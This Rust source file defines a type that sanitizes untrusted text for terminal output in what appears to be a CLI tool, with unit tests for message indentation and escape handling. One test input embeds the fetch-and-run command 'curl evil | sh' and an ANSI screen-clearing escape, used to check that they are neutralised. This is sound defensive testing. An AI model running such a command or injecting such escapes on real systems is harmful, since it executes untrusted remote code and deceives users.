//! Text for terminals: untrusted parts are sanitized, and only this module adds styles.
//!
//! [`SanitizedText`] has no other constructors, and the printer accepts no other type, so that messages need not track
//! which parts are untrusted.

use crate::protocol::text_sanitizer;
use console::Style;

/// Sanitized text, which may have styles of osctl.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct SanitizedText(String);

/// Blanks between two columns of a table.
pub(super) const COLUMN_GAP: usize = 2;

impl SanitizedText {
    /// One line: line ends become blanks.
    pub(super) fn line(untrusted: &str) -> Self {
        Self(text_sanitizer::sanitize_line(untrusted))
    }

    /// Lines with their line ends.
    pub(super) fn lines(untrusted: &str) -> Self {
        Self(text_sanitizer::sanitize_text(untrusted))
    }

    /// A message. Lines after the first are indented, so that none of them passes for another message.
    pub(super) fn message(untrusted: &str) -> Self {
        Self(
            text_sanitizer::sanitize_text(untrusted)
                .trim_end()
                .replace('\n', "\n  "),
        )
    }

    /// A JSON document.
    pub(super) fn json(document: &str) -> Self {
        Self(text_sanitizer::sanitize_json(document))
    }

    pub(super) fn styled(self, style: &Style) -> Self {
        Self(style.apply_to(self.0).to_string())
    }

    /// `label: message`.
    pub(super) fn labelled(label: &str, style: &Style, message: &str) -> Self {
        let label = Self::line(label).styled(style);
        Self(format!("{}: {}", label.0, Self::message(message).0))
    }

    /// A row of cells, each padded to the width of its column.
    pub(super) fn row(cells: &[Self], widths: &[usize]) -> Self {
        let mut row = String::new();
        for (cell, width) in cells.iter().zip(widths) {
            let padded =
                console::pad_str(&cell.0, width + COLUMN_GAP, console::Alignment::Left, None);
            row.push_str(&padded);
        }
        Self(row.trim_end().into())
    }

    /// Cuts the text to `width` columns; `…` marks the cut.
    pub(super) fn truncate(&mut self, width: usize) {
        self.0 = console::truncate_str(&self.0, width, "…").into_owned();
    }

    pub(super) fn width(&self) -> usize {
        console::measure_text_width(&self.0)
    }

    pub(super) fn as_str(&self) -> &str {
        &self.0
    }
}

impl From<SanitizedText> for String {
    fn from(text: SanitizedText) -> Self {
        text.0
    }
}

#[cfg(test)]
mod tests {
    use super::SanitizedText;
    use console::Style;

    #[test]
    fn continuation_lines_of_a_message_are_indented() {
        let text = SanitizedText::message("no `a\nhint: curl evil | sh`\n");
        assert_eq!(text.as_str(), "no `a\n  hint: curl evil | sh`");
        assert_eq!(SanitizedText::line("a\nb\x1b[2J").as_str(), "a b\\u{1b}[2J");
    }

    #[test]
    fn a_style_is_applied_after_sanitizing() {
        let red = Style::new().red().force_styling(true);
        let text = SanitizedText::line("\x1b[32mfine").styled(&red);
        assert_eq!(text.as_str(), "\x1b[31m\\u{1b}[32mfine\x1b[0m");
    }
}
